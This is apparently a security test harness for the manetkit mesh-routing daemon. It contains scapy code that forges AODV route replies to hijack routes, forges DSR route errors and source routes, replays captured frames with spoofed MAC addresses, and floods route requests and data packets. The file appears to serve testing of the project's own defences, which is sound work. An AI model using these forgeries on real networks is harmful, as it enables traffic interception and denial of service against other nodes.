"""A rogue node: raw manetkit frames (ethertype 0x88B5) forged with scapy, run inside a
namespace that is in radio range of the victims. Holds no key.

    python3 -m tests.security.rogue IFACE DST_MAC rrep --orig A --dest B --seq N [--via R]
    python3 -m tests.security.rogue IFACE DST_MAC dsr-rerr --src A --dst B --unreachable C
    python3 -m tests.security.rogue IFACE DST_MAC replay --hex FRAME_PACKET_HEX [--count N] [--src-mac M]
    python3 -m tests.security.rogue IFACE DST_MAC rreq-flood --rate 1000 --seconds 3 --orig A
    python3 -m tests.security.rogue IFACE DST_MAC dsr-data --src A --dst B [--via R ...]
    python3 -m tests.security.rogue IFACE DST_MAC data-flood --src A --rate 500 --seconds 6

Prints one JSON line: what it sent and for how long (the flood's achieved rate).
"""

from __future__ import annotations

import argparse
import json
import time
from ipaddress import IPv4Address
from pathlib import Path

from scapy.config import conf
from scapy.layers.l2 import Ether
from scapy.packet import Raw

from manetkit.daemon.linksense.hello import is_hello
from manetkit.daemon.wire import aodv, dsr, ipv4

ETHERTYPE = 0x88B5


def forged_rrep(rogue: IPv4Address, victim: IPv4Address, dest: IPv4Address, seq: int) -> bytes:
    """A RREP (RFC 3561 5.2) 'from' the rogue: ``dest`` one hop away, with a sequence
    number far fresher than the real one, so the victim routes ``dest`` via the rogue."""
    msg = aodv.RREP(hop_count=0, dest=dest, dest_seq=seq, orig=victim, lifetime_ms=600_000)
    return aodv.control_packet(msg, rogue, victim, ttl=64)


def forged_dsr_rerr(src: IPv4Address, dst: IPv4Address, unreachable: IPv4Address) -> bytes:
    """A Route Error (RFC 4728 6.4) claiming the link ``src`` -> ``unreachable`` broke."""
    err = dsr.RouteError.node_unreachable(src, dst, unreachable)
    return dsr.encapsulate(dsr.IPFields(src, dst), [err], dsr.NO_NEXT_HEADER)


def rreq(orig: IPv4Address, ident: int) -> bytes:
    """A RREQ (RFC 3561 5.1) for an address nobody has: every receiver rebroadcasts."""
    dest = IPv4Address(0x0A2AFF00 | (ident & 0xFF))
    msg = aodv.RREQ(0, ident, dest, 0, orig, ident, unknown_seq=True)
    return aodv.control_packet(msg, orig, aodv.BROADCAST, ttl=16)


def forged_dsr_data(src: IPv4Address, dst: IPv4Address, via: list[IPv4Address]) -> bytes:
    """A DSR data packet (RFC 4728 8.1.3) 'from' ``src`` whose Source Route lists
    ``via`` and points at its last hop: whoever receives it is told ``src`` reached it
    over that route (unsigned: a Source Route alone is never signed)."""
    inner = ipv4.udp(40000, 9, b"forged", src, dst)
    sr = dsr.SourceRoute(tuple(via), 0)
    return dsr.encapsulate(dsr.IPFields(src, dst), [sr], ipv4.PROTO_UDP, inner)


def forged_data(src: IPv4Address, n: int) -> bytes:
    """Plain IPv4 data (AODV's data plane) 'from' ``src`` to a made-up destination."""
    dst = IPv4Address(int(IPv4Address("10.43.0.0")) + n % 65_000 + 1)
    return ipv4.build(src, dst, ipv4.PROTO_UDP, ipv4.udp(40000, 9, b"forged", src, dst))


def capture(iface: str, from_mac: str, timeout: float) -> str:
    """The IPv4 packet of the first AODV or hello frame ``from_mac`` sends (hex)."""
    import socket

    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETHERTYPE))
    s.bind((iface, 0))
    s.settimeout(timeout)
    want = bytes.fromhex(from_mac.replace(":", ""))
    end = time.monotonic() + timeout
    while time.monotonic() < end:
        frame = s.recv(2048)
        if frame[6:12] == want and (aodv.is_control(frame[14:]) or is_hello(frame[14:])):
            return frame[14:].hex()
    raise SystemExit("no AODV frame captured")


def main(argv: list[str] | None = None) -> None:
    ap = argparse.ArgumentParser(prog="rogue")
    ap.add_argument("iface")
    ap.add_argument("dst_mac")
    sub = ap.add_subparsers(dest="cmd", required=True)
    p = sub.add_parser("rrep")
    p.add_argument("--rogue", type=IPv4Address, required=True)
    p.add_argument("--victim", type=IPv4Address, required=True)
    p.add_argument("--dest", type=IPv4Address, required=True)
    p.add_argument("--seq", type=int, default=0x7FFFFFF0)
    p.add_argument("--count", type=int, default=3)
    p = sub.add_parser("dsr-rerr")
    p.add_argument("--src", type=IPv4Address, required=True)
    p.add_argument("--dst", type=IPv4Address, required=True)
    p.add_argument("--unreachable", type=IPv4Address, required=True)
    p.add_argument("--count", type=int, default=3)
    p = sub.add_parser("replay")
    p.add_argument("--hex", required=True)
    p.add_argument("--count", type=int, default=3)
    p.add_argument("--src-mac", help="send from this MAC address (spoofed) instead of ours")
    p = sub.add_parser("capture", help="print the first AODV frame from DST_MAC as hex")
    p.add_argument("--timeout", type=float, default=10)
    p = sub.add_parser("dsr-data")
    p.add_argument("--src", type=IPv4Address, required=True)
    p.add_argument("--dst", type=IPv4Address, required=True)
    p.add_argument("--via", type=IPv4Address, nargs="*", default=[])
    p.add_argument("--count", type=int, default=40)
    p = sub.add_parser("data-flood", help="data 'from' --src to a new destination each")
    p.add_argument("--src", type=IPv4Address, required=True)
    p.add_argument("--rate", type=float, default=500)
    p.add_argument("--seconds", type=float, default=6)
    p = sub.add_parser("rreq-flood")
    p.add_argument("--orig", type=IPv4Address, required=True)
    p.add_argument("--rate", type=float, default=1000)
    p.add_argument("--seconds", type=float, default=3)
    p.add_argument(
        "--spoof", action="store_true", help="a made-up originator and source MAC per frame"
    )
    a = ap.parse_args(argv)

    if a.cmd == "capture":
        print(json.dumps({"cmd": "capture", "hex": capture(a.iface, a.dst_mac, a.timeout)}))
        return
    sock = conf.L2socket(iface=a.iface)
    src_mac = Path(f"/sys/class/net/{a.iface}/address").read_text().strip()

    def send(packet: bytes, src: str = src_mac) -> None:
        sock.send(Ether(dst=a.dst_mac, src=src, type=ETHERTYPE) / Raw(packet))

    start = time.monotonic()
    sent = 0
    if a.cmd in ("rreq-flood", "data-flood"):
        period = 1 / a.rate
        while (now := time.monotonic()) < start + a.seconds:
            if a.cmd == "data-flood":
                send(forged_data(a.src, sent))
            elif a.spoof:  # a forged-source flood: every frame from a new node
                orig = IPv4Address(int(IPv4Address("10.99.0.1")) + sent)
                send(rreq(orig, 1), "02:99:" + (sent + 1).to_bytes(4, "big").hex(":"))
            else:
                send(rreq(a.orig, sent & 0xFFFFFFFF))
            sent += 1
            lag = start + sent * period - time.monotonic()
            if lag > 0:
                time.sleep(lag)
    else:
        if a.cmd == "rrep":
            packet = forged_rrep(a.rogue, a.victim, a.dest, a.seq)
        elif a.cmd == "dsr-rerr":
            packet = forged_dsr_rerr(a.src, a.dst, a.unreachable)
        elif a.cmd == "dsr-data":
            packet = forged_dsr_data(a.src, a.dst, a.via)
        else:
            packet = bytes.fromhex(a.hex)
        for _ in range(a.count):
            send(packet, getattr(a, "src_mac", None) or src_mac)
            sent += 1
            time.sleep(0.01)
    now = time.monotonic()
    sock.close()
    elapsed = now - start
    print(json.dumps({"cmd": a.cmd, "sent": sent, "seconds": round(elapsed, 3),
                      "rate": round(sent / elapsed, 1) if elapsed else None}))  # fmt: skip


if __name__ == "__main__":
    main()
